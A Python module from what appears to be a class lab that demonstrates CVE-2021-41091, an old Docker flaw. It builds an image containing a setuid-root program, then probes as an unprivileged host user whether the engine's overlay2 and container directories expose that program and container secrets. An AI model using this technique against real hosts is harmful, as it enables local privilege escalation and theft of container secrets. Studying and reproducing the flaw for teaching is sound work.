"""The CVE-2021-41091 attack: an ordinary host user walks into the engine's directories.

Docker before 20.10.9 left /var/lib/docker/overlay2 and /var/lib/docker/containers open to every
user: someone with a shell on the host (another learner on the class server) could run the
setuid-root programs of any image layer, and read every container's config with its `-e` secrets.
This image carries a setuid-root program that prints its effective uid; the probe
(local_user_probe.py), run as `nobody`, looks for it and for the secret under the engine's root.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

from . import Status, compile_c, must

C_SOURCE = r"""
#include <stdio.h>
#include <unistd.h>
int main(void) { printf("euid=%d\n", (int)geteuid()); return 0; }
"""

DOCKERFILE = """FROM busybox
COPY whoami-suid /usr/local/bin/whoami-suid
RUN chmod 4755 /usr/local/bin/whoami-suid
"""
PROBE = Path(__file__).with_name("local_user_probe.py")


def build_image(status: Status, tag: str, workdir: Path) -> str:
    """An image with a setuid-root program (compiled with the host's cc, as an attacker would)."""
    ctx = workdir / "suid-context"
    ctx.mkdir(parents=True, exist_ok=True)
    (ctx / "whoami.c").write_text(C_SOURCE)
    compile_c(ctx / "whoami.c", ctx / "whoami-suid", "-static")
    (ctx / "Dockerfile").write_text(DOCKERFILE)
    must(status, "build", "-q", "-t", tag, str(ctx))
    return tag


def probe_as(uid: int, root: Path, secret: str) -> dict:
    """Run the probe over `root` as the host user `uid` (setpriv drops root's uid, groups and capabilities)."""
    python = shutil.which("python3", path="/usr/bin:/bin") or sys.executable
    cmd = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all",
           python, "-I", "-c", PROBE.read_text(), str(root), secret]
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=120, cwd="/")
    if out.returncode != 0:
        raise RuntimeError(f"the probe failed: {out.stderr.strip()}")
    return json.loads(out.stdout)
